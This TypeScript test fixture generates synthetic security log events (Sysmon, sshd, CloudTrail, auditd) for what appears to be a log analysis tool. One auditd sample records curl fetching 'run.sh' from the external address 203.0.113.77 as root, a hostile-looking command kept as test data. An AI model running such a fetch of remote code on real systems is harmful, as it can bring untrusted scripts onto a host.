import type { Entity } from '../../../src/contracts/entity.ts';
import type { EventView } from '../../../src/contracts/event.ts';
import { eventId } from '../../../src/contracts/event.ts';
import { Seeded } from './seeded.ts';

const users = ['m.okafor', 'j.lindqvist', 'svc-backup', 'a.tanaka', 'r.moreau', 'p.novak', 'deploy'];
const hosts = ['WS-14', 'WS-22', 'DC-01', 'web-1', 'web-2', 'build-3', 'db-1'];
const addresses = ['10.4.2.17', '10.4.2.33', '203.0.113.77', '198.51.100.24', '10.4.9.2'];

interface Shape {
  readonly format: string;
  readonly source: string;
  readonly classUid: number;
  readonly className: string;
  readonly severityId: number;
  readonly make: (
    user: string,
    host: string,
    address: string,
  ) => { message: string; raw: string; entities: Entity[] };
}

const shapes: readonly Shape[] = [
  {
    format: 'windows',
    source: 'workstations',
    classUid: 1007,
    className: 'Process Activity',
    severityId: 1,
    make: (user, host) => ({
      message: `${user} started powershell.exe on ${host}`,
      raw: JSON.stringify({
        EventID: 1,
        Channel: 'Microsoft-Windows-Sysmon/Operational',
        Computer: host,
        User: `CORP\\${user}`,
        Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        CommandLine: 'powershell.exe -NoProfile -File C:\\Tools\\inventory.ps1',
        ParentImage: 'C:\\Windows\\explorer.exe',
      }),
      entities: [
        { kind: 'host', name: host },
        { kind: 'user', name: user },
      ],
    }),
  },
  {
    format: 'syslog',
    source: 'web',
    classUid: 3002,
    className: 'Authentication',
    severityId: 1,
    make: (user, host, address) => ({
      message: `Failed password for ${user} from ${address}`,
      raw: `<38>Nov 22 03:12:44 ${host} sshd[2211]: Failed password for ${user} from ${address} port 52144 ssh2`,
      entities: [
        { kind: 'host', name: host },
        { kind: 'user', name: user },
        { kind: 'ip', name: address },
      ],
    }),
  },
  {
    format: 'cloudtrail',
    source: 'aws-prod',
    classUid: 6003,
    className: 'API Activity',
    severityId: 1,
    make: (user, _host, address) => ({
      message: `${user} called s3:ListBuckets from ${address}`,
      raw: JSON.stringify({
        eventSource: 's3.amazonaws.com',
        eventName: 'ListBuckets',
        userIdentity: { type: 'IAMUser', userName: user },
        sourceIPAddress: address,
      }),
      entities: [
        { kind: 'user', name: user },
        { kind: 'ip', name: address },
      ],
    }),
  },
  {
    format: 'auditd',
    source: 'build',
    classUid: 1007,
    className: 'Process Activity',
    severityId: 2,
    make: (user, host) => ({
      message: `${user} ran curl as root on ${host}`,
      raw: `type=EXECVE msg=audit(1763780000.221:9921): argc=3 a0="curl" a1="-s" a2="http://203.0.113.77/run.sh"`,
      entities: [
        { kind: 'host', name: host },
        { kind: 'user', name: user },
      ],
    }),
  },
];

function eventAt(seq: number, timeMs: number, random: Seeded): EventView {
  const shape = random.pick(shapes);
  const user = random.pick(users);
  const host = random.pick(hosts);
  const made = shape.make(user, host, random.pick(addresses));
  return {
    id: eventId(seq),
    time: new Date(timeMs).toISOString(),
    received: new Date(timeMs + 400).toISOString(),
    source: shape.source,
    format: shape.format,
    class_uid: shape.classUid,
    class_name: shape.className,
    severity_id: shape.severityId,
    message: made.message,
    entities: made.entities,
    ocsf: {
      class_uid: shape.classUid,
      class_name: shape.className,
      activity_id: 1,
      time: timeMs,
      actor: { user: { name: user }, process: { name: 'powershell.exe', pid: 4120 } },
      device: { hostname: host },
      metadata: { version: '1.4.0', product: { name: shape.format } },
    },
    raw: made.raw,
  };
}

/** `count` events of a company's day, newest first. */
export function makeEvents(count: number, nowMs: number): EventView[] {
  const random = new Seeded(7);
  const events: EventView[] = [];
  for (let index = 0; index < count; index += 1) {
    events.push(eventAt(500_000 - index, nowMs - index * 7_900 - random.int(0, 5000), random));
  }
  return events;
}
